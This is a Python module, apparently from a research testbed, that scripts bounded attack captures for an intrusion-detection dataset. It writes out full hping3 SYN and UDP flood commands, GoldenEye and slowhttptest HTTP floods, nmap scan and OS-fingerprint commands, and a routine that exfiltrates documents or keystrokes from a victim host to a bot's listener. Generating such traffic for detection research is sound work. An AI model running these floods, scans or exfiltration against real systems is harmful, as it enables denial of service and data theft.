"""One scenario for each attack subcategory: real tools, bounded counts, bounded time.

A scenario gives the commands of one capture: which host runs what, for how long at most. The
round varies victims, ports, rates, sizes and kinds, so that captures of one subcategory differ as
sessions do. `scale` multiplies counts.
"""

import random
from collections.abc import Callable
from dataclasses import dataclass

from testbed.topology import BOTS, BY_NAME, Host, python_module

VICTIMS = ("server", "web", "windows", "files")


@dataclass(frozen=True)
class Order:
    """One command of an attack."""

    host: Host
    command: list[str]
    timeout_s: float = 8.0
    wait: bool = True  # else it is ended when the waited-for commands are done


Scenario = Callable[[int, float, random.Random], list[Order]]


def tcp_flood(bots: int) -> Scenario:
    """SYN flood with 100 octets of data, 154-octet frames as in BoT-IoT; source ports sweep."""

    def scenario(round_: int, scale: float, rng: random.Random) -> list[Order]:
        victim = BY_NAME[VICTIMS[round_ % 4]]
        port = (80, 80, 81, 80)[round_ % 4]  # 81 is closed: the victim answers with a reset
        data = (100, 100, 64, 120)[round_ % 4]
        count = round(4600 * (1.3 if port == 81 else 1) * scale / bots)
        return [
            Order(
                bot,
                ["hping3", "-q", "-n", "-S", "-d", str(data), "-p", str(port), "-s",
                 str(first_port(round_, rng, count)), "-c", str(count), "-i",
                 f"u{(250, 400, 300, 500)[round_ % 4] * bots}", victim.address],
            )
            for bot in BOTS[:bots]
        ]  # fmt: skip

    return scenario


def udp_flood(bots: int) -> Scenario:
    """UDP flood, to an open port or to a closed one that answers with ICMP unreachables."""

    def scenario(round_: int, scale: float, rng: random.Random) -> list[Order]:
        name, port = (("server", 80), ("web", 80), ("windows", 80), ("server", 9999))[round_ % 4]
        closed = name == "windows" or port == 9999
        data = (0, 18, 0, 64)[round_ % 4]
        count = round((6500 if closed else 13000) * scale / bots)
        return [
            Order(
                bot,
                ["hping3", "-q", "-n", "--udp", *(["-d", str(data)] if data else []), "-p",
                 str(port), "-s", str(first_port(round_, rng, count)), "-c", str(count), "-i",
                 f"u{(200, 300, 300, 400)[round_ % 4] * bots}", BY_NAME[name].address],
            )
            for bot in BOTS[:bots]
        ]  # fmt: skip

    return scenario


def first_port(round_: int, rng: random.Random, count: int) -> int:
    """Choose where a sweep of source ports begins; in round 3 it passes 65535 and 0."""
    return 65536 - count // 2 if round_ == 3 else rng.randrange(1024, 60000)


def http_flood(bots: int) -> Scenario:
    """GoldenEye's request flood, and slowhttptest's slow headers or bodies."""

    def scenario(round_: int, scale: float, rng: random.Random) -> list[Order]:
        url = f"http://{BY_NAME[VICTIMS[round_ % 4]].address}/"
        connections = max(2, round((60, 80, 50, 70)[round_ % 4] * scale / bots))
        requests = max(8, round((240, 200, 260, 220)[round_ % 4] * scale / bots))
        slow = (["-H"], ["-B"], ["-H"], ["-X"])[round_ % 4]
        orders = [
            Order(
                bot,
                python_module("goldeneye", str(requests), f"{2.5 / requests:.4f}", url, "-w", "1",
                              "-s", str((8, 10, 6, 8)[round_ % 4]),
                              "-m", ("get", "post", "random", "get")[round_ % 4]),
            )
            for bot in BOTS[:bots]
        ]  # fmt: skip
        orders += [
            Order(
                bot,
                ["slowhttptest", *slow, "-c", str(connections), "-r", str(connections), "-i", "1",
                 "-l", "4", "-x", "24", "-p", "2", "-u", f"{url}photo.html"],
                timeout_s=6,
            )
            for bot in BOTS[:bots]
        ]  # fmt: skip
        return orders

    return scenario


def service_scan(round_: int, scale: float, rng: random.Random) -> list[Order]:
    """Nmap's kinds of scan, and hping3's."""
    kinds = (("-sS", "-sT"), ("-sU", "-sA"), ("-sN", "-sF"), ("-sX", "-sS"))[round_ % 4]
    orders = []
    for position, kind in enumerate(kinds):
        victim = BY_NAME[VICTIMS[(round_ + position) % 4]]
        top = round((2200 if kind != "-sU" else 1500) * scale)
        orders.append(_nmap(BOTS[position], victim, [kind, "-p", f"1-{max(20, top)}"]))
    other = BY_NAME[VICTIMS[(round_ + 2) % 4]]
    orders.append(_nmap(BOTS[2], other, ["-sV", "--version-light", "-p", "21,22,53,80,443,1883"]))
    top = max(20, round(800 * scale))
    orders.append(
        Order(BOTS[3], ["hping3", "-n", "--scan", f"1-{top}", "-S", other.address], timeout_s=8)
    )
    return orders


def os_fingerprint(round_: int, scale: float, rng: random.Random) -> list[Order]:
    """Nmap -O against each victim, from two bots."""
    top = max(30, round((420, 520, 360, 480)[round_ % 4] * scale))
    orders = []
    for position, name in enumerate(VICTIMS):
        bot = BOTS[(position + round_) % 4]
        options = ["-O", "--osscan-guess", "--max-os-tries", str(1 + round_ % 2)]
        orders.append(_nmap(bot, BY_NAME[name], [*options, "-p", f"20-{20 + top}"]))
    return orders


def _nmap(bot: Host, victim: Host, options: list[str]) -> Order:
    command = ["nmap", "-n", "-Pn", "-T4", "--max-retries", "1", "--host-timeout", "9s", "-e",
               "eth0", *options, victim.address]  # fmt: skip
    return Order(bot, command, timeout_s=10)


def theft(kind: str, count: int) -> Scenario:
    """Documents or keystrokes from a victim to a bot; ports as seen in BoT-IoT's sessions."""

    def scenario(round_: int, scale: float, rng: random.Random) -> list[Order]:
        victim, bot, port, source_port = (
            ("windows", "bot-149", 4444, 49160),
            ("server", "bot-150", 4433, 50032),
            ("files", "bot-148", 4444, 51004),
            ("windows", "bot-147", 8443, 49177),
        )[round_ % 4]
        source_port += 0 if kind == "documents" else 7
        many = max(40, round(count * (1.0, 0.8, 1.2, 0.9)[round_ % 4] * scale))
        return [
            Order(BY_NAME[bot], python_module("theft", "listen", str(port)), wait=False),
            Order(
                BY_NAME[victim],
                python_module("theft", kind, BY_NAME[bot].address, str(port), str(source_port),
                              str(many), str(rng.randrange(10**6))),
                timeout_s=20,
            ),
        ]  # fmt: skip

    return scenario


SCENARIOS: dict[str, Scenario] = {
    "Service_Scan": service_scan,
    "OS_Fingerprint": os_fingerprint,
    "DoS_TCP": tcp_flood(1),
    "DoS_UDP": udp_flood(1),
    "DoS_HTTP": http_flood(1),
    "DDoS_TCP": tcp_flood(4),
    "DDoS_UDP": udp_flood(4),
    "DDoS_HTTP": http_flood(4),
    "Data_Exfiltration": theft("documents", 1400),
    "Keylogging": theft("keystrokes", 480),
}
